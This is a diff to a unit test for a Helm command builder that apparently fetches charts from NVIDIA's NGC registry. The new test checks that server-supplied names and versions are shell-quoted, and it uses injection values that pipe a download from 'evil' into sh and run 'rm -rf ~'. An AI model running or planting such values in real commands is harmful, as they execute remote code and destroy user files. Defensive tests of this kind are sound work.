@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import { helmCommand } from '../../../../src/extension/details/helmCommand';
+import { helmCommand, shellWord } from '../../../../src/extension/details/helmCommand';
 
 describe('helmCommand (unit)', () => {
     it('Should add the private team repo with $oauthtoken and the key from the shell, then fetch the version', () => {
@@ -40,5 +40,18 @@ describe('helmCommand (unit)', () => {
             ),
             /--username='\$oauthtoken'/,
         );
+    });
+
+    it('Should quote a name or version from the server that a shell would run', () => {
+        const text = helmCommand(
+            'https://helm.ngc.nvidia.com',
+            { kind: 'helm-chart', org: 'nvidia', name: 'x;curl evil|sh' },
+            "1.0$(rm -rf ~)'",
+            true,
+        );
+        assert.equal(text.split('\n')[1], `helm fetch 'nvidia/x;curl evil|sh' --version '1.0$(rm -rf ~)'\\'''`);
+        assert.equal(shellWord('v24.9.2'), 'v24.9.2');
+        assert.equal(shellWord('http://127.0.0.1:18083/acme/vision'), 'http://127.0.0.1:18083/acme/vision');
+        assert.equal(shellWord('a b'), `'a b'`);
     });
 });
